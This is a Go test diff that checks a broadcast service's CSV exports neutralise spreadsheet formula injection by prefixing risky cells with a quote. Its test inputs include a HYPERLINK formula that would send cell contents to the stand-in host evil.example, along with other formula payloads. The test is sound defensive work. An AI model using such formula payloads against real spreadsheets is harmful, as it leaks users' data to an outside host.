@@ -10,6 +10,7 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"runtime"
+	"strings"
 	"sync/atomic"
 	"testing"
 	"time"
@@ -332,4 +333,71 @@ func userIDs(us []broadcast.UnreachableUser) []string {
 		out[i] = u.UserID
 	}
 	return out
+}
+
+// servesOnly is a Creator for report tests: it serves one tenant and
+// creates nothing.
+type servesOnly struct {
+	api.Creator
+	tenant string
+}
+
+func (s servesOnly) Serves(tenant string) bool { return tenant == s.tenant }
+
+// Names that a spreadsheet would run as formulas reach both CSV reports
+// with a quote in front (OWASP's CSV injection advice); other cells are
+// as they are.
+func TestReportsNeutraliseFormulas(t *testing.T) {
+	t.Parallel()
+	rdb, err := store.Connect(context.Background(), testenv.Redis(t))
+	require.NoError(t, err)
+	t.Cleanup(func() { _ = rdb.Close() })
+	st := store.New(rdb)
+	tenant := testenv.FreeTenant(t)
+	names := []string{`=HYPERLINK("https://evil.example/?"&A1,"Open")`, "@SUM(1+1)", "+1+1", "-2+3", "\t=1+1", "\r=1+1", "Ada Lovelace"}
+	ids := make([]string, len(names))
+	profiles := make([]broadcast.Profile, len(names))
+	rs := make([]store.NewRecipient, len(names))
+	for i, name := range names {
+		ids[i] = userID(i)
+		profiles[i] = broadcast.Profile{ID: ids[i], DisplayName: name, UserPrincipalName: fmt.Sprintf("=user%d@contoso.com", i)}
+		rs[i] = store.NewRecipient{UserID: ids[i], State: broadcast.StatePending}
+	}
+	ctx := context.Background()
+	b := &broadcast.Broadcast{ID: uuid.NewString(), TenantID: tenant, Message: broadcast.Message{Text: "Hi"},
+		Audience: broadcast.Audience{UserIDs: ids}, Status: broadcast.StatusExpanding, CreatedAt: time.Now().UTC()}
+	require.NoError(t, st.CreateBroadcast(ctx, b, []byte(`{"type":"message","text":"Hi"}`)))
+	require.NoError(t, rdb.ZRem(ctx, "broadcasts:expanding", b.ID).Err()) // no dispatcher here
+	require.NoError(t, st.PutProfiles(ctx, tenant, profiles))
+	_, err = st.AddRecipients(ctx, b.ID, rs)
+	require.NoError(t, err)
+	for _, id := range ids { // every one blocked the bot: all are in the unreachable report
+		_, err := st.Transition(ctx, b.ID, id, store.Change{To: broadcast.StateSending, Owner: "t", Lease: time.Minute})
+		require.NoError(t, err)
+		_, err = st.Transition(ctx, b.ID, id, store.Change{From: []broadcast.State{broadcast.StateSending}, To: broadcast.StateBlocked,
+			Reason: broadcast.ReasonBlockedByUser})
+		require.NoError(t, err)
+	}
+	_, h := newAdminAPI(t, servesOnly{tenant: tenant}, nil, st, zap.NewNop())
+
+	for _, path := range []string{"/v1/broadcasts/" + b.ID + "/export", "/v1/tenants/" + tenant + "/unreachable?format=csv"} {
+		rec, _ := do(t, h, http.MethodGet, path, "", "")
+		require.Equal(t, http.StatusOK, rec.Code, rec.Body.String())
+		rows, err := csv.NewReader(rec.Body).ReadAll()
+		require.NoError(t, err, path)
+		require.Len(t, rows, 1+len(names), path)
+		for _, row := range rows[1:] {
+			var i int
+			_, err := fmt.Sscanf(row[0], "00000000-0000-4000-8000-%d", &i)
+			require.NoError(t, err)
+			require.Equal(t, fmt.Sprintf("'=user%d@contoso.com", i), row[1], path)
+			want := names[i]
+			if i < len(names)-1 {
+				// CRLF-ended CSV drops a lone CR inside a cell; the quote stays first.
+				want = "'" + strings.ReplaceAll(want, "\r", "")
+			}
+			require.Equal(t, want, row[2], "%s: display name of user %d", path, i)
+			require.Contains(t, row, "blocked_by_user", path)
+		}
+	}
 }
